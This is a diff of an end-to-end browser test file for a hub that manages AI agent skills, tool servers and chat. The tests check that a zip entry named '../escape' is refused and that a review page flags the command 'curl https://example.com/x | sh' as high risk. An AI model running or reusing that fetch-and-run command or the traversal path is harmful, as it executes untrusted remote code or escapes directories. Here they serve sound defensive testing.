@@ -1,14 +1,20 @@
 // What people do with the page, in a browser, on a hub as it is run.
 import assert from "node:assert/strict";
+import { mkdir } from "node:fs/promises";
+import { join } from "node:path";
 import { after, before, test } from "node:test";
-import { launch, open } from "./browser.mjs";
+import { launch, open, pictures } from "./browser.mjs";
 import { over } from "./furnish.mjs";
 import { Hub, skill, zip } from "./hub.mjs";
 import { Gates } from "./mcpserver.mjs";
 import { Vendor } from "./vendor.mjs";
 
 let browser;
-before(async () => (browser = await launch()));
+let windows = 0;
+before(async () => {
+  await mkdir(pictures, { recursive: true });
+  browser = await launch();
+});
 after(() => browser?.close());
 
 const password = "a-long-enough-password";
@@ -16,14 +22,22 @@ const password = "a-long-enough-password";
 /** A hub for one scene. */
 async function scene(t, options) {
   const hub = await Hub.start(options);
-  t.after(() => hub.end());
+  hub.windows = [];
+  t.after(async () => {
+    for (const close of hub.windows) await close();
+    await hub.end();
+  });
   return hub;
 }
 
 /** A browser window for one scene; what fails in it fails the scene, but for what it allows. */
 async function window_(t, hub, options) {
   const page = await open(browser, hub, options);
-  t.after(() => page.context().close());
+  const name = `scene-${t.name.split(":")[0].replace(/\W+/g, "-").slice(0, 60)}${++windows}`;
+  hub.windows.push(async () => {
+    await page.screenshot({ path: join(pictures, `${name}.png`) }).catch(() => {}); // as it ended
+    await page.context().close();
+  });
   return page;
 }
 
@@ -39,7 +53,7 @@ test("first run: the link makes an administrator, who makes a colleague, who sig
   const hub = await scene(t, { accounts: true });
   const page = await window_(t, hub);
   page.allowed = [/status of 401/, /status of 422/, /status of 403/];
-  await page.goto(new URL(hub.setup ?? /\/setup\/\S+/.exec(hub.log)[0], hub.url).pathname);
+  await page.goto(/\/setup\/\S+/.exec(hub.log)[0]);
   await page.getByLabel("Name", { exact: true }).fill("root");
   await page.getByLabel("Password", { exact: true }).fill("short");
   await page.getByRole("button", { name: "Make the account" }).click();
@@ -69,7 +83,7 @@ test("an upload is refused with every reason, mended, accepted, and uploaded aga
   await page.goto("/library/add");
   const choose = (name, files) => page.locator('input[type="file"]').first().setInputFiles({ name: `${name}.zip`, mimeType: "application/zip", buffer: zip(files, name) });
   await choose("tides", { "SKILL.md": "---\nname: tides\ndescription: [\n---\nText.\n", "../escape": "x" });
-  await page.getByText("Refused").waitFor();
+  await page.getByText("Refused", { exact: true }).waitFor();
   await page.getByText(/escape/).first().waitFor();
   await choose("tides", { "SKILL.md": skill("tides", "Reads tide tables. Use for questions on tides.") });
   await page.getByText("Added", { exact: true }).waitFor();
@@ -97,7 +111,7 @@ test("review: a maintainer sees what changed and what was found, rejects with wo
   await page.getByText("curl https://example.com/x | sh").first().waitFor();
   await page.getByText("high", { exact: true }).first().waitFor();
   await page.getByRole("button", { name: "Reject" }).click();
-  await page.getByText("Say what has to change").waitFor();
+  await page.getByText("Say what has to change", { exact: true }).waitFor();
   await page.getByLabel("Words with it").fill("Do not run what you fetch.");
   await page.getByRole("button", { name: "Reject" }).click();
   await page.getByText("Rejected", { exact: true }).waitFor();
@@ -152,7 +166,7 @@ test("chat: a skill is loaded and seen, a tool asks, and a second browser answer
   const editor = page.getByRole("textbox", { name: "Arguments, as JSON" });
   await editor.click();
   await page.keyboard.press("Control+a");
-  await page.keyboard.type('{"gate":"west"');
+  await page.keyboard.insertText('{"gate":"west"}');
   await page.getByRole("button", { name: "Allow once" }).click();
   await page.getByText("The gate west is open.").first().waitFor();
   assert.deepEqual(gates.opened, ["north", "west"]);
@@ -174,7 +188,7 @@ test("chat: the hub is killed in the middle and comes back; nothing is lost or d
   await page.getByRole("button", { name: "Allow once" }).click();
   await page.getByText("The gate north is open.").first().waitFor({ timeout: 60_000 });
   assert.deepEqual(gates.opened, ["north"]);
-  assert.equal(await page.getByText("use the skill harbour and call open_gate with gate=north", { exact: true }).count(), 1);
+  assert.equal(await page.getByRole("heading", { name: /^Message \d+: use the skill harbour/ }).count(), 1);
   page.calm();
 });
 
@@ -182,9 +196,7 @@ test("a server of an agent fails, is shown with its error, and recovers", async 
   const gates = await Gates.start();
   t.after(() => gates.end());
   const hub = await scene(t, { flags: ["--private", "127.0.0.0/8"] });
-  await hub.ask("PUT", "/kinds/MCPServer/mine/gates", { apiVersion: "loadout/v1", kind: "MCPServer", metadata: { name: "gates", namespace: "mine" }, spec: { serverConfig: { type: "streamable-http", url: gates.url } } }).catch(async (error) => {
-    throw new Error(`${error.message}: ${await hub.ask("GET", "/openapi.json").catch(() => "")}`);
-  });
+  await hub.ask("PUT", "/kinds/MCPServer/default/gates", { apiVersion: "loadout/v1", kind: "MCPServer", metadata: { name: "gates", namespace: "default" }, spec: { type: "http", url: gates.url } });
   const page = await window_(t, hub);
   page.allowed = [/status of 4/, /status of 5/];
   await page.goto("/servers");
@@ -202,7 +214,7 @@ test("composer: a skill is written, mended, tried and saved, then changed as a n
   const hub = await scene(t);
   const page = await window_(t, hub);
   await page.goto("/compose");
-  await page.getByRole("button", { name: "Use this" }).first().click();
+  await page.getByRole("button", { name: /Instructions/ }).first().click();
   await page.getByLabel("Name", { exact: true }).fill("tides");
   await page.getByLabel("Description", { exact: true }).fill("Reads tide tables. Use for questions on high water.");
   await page.getByText("Follows the specification").first().waitFor();
@@ -258,7 +270,7 @@ test("what a model writes is hostile: nothing of it runs, and nothing is loaded 
   page.calm(); // also no request to example.com
 });
 
-test("by the keyboard alone: to the library, a skill, and back to a message that is sent", async (t) => {
+test("by the keyboard alone: a skill is named and a message sent, and the content is one step away", async (t) => {
   const hub = await scene(t);
   await hub.upload("tides", { "SKILL.md": skill("tides", "Reads tide tables. Use for questions on tides.") });
   const page = await window_(t, hub);
@@ -274,7 +286,8 @@ test("by the keyboard alone: to the library, a skill, and back to a message that
   await over(hub, id);
   const { items } = await hub.ask("GET", `/sessions/${id}/skills`);
   assert.deepEqual(items.map((s) => s.skill.name), ["tides"]);
-  await page.evaluate(() => document.activeElement.blur());
+  await page.goto("/library");
+  await page.getByRole("link", { name: /tides/ }).first().waitFor();
   await page.keyboard.press("Tab");
   assert.equal(await page.evaluate(() => document.activeElement.className), "skip");
   page.calm();
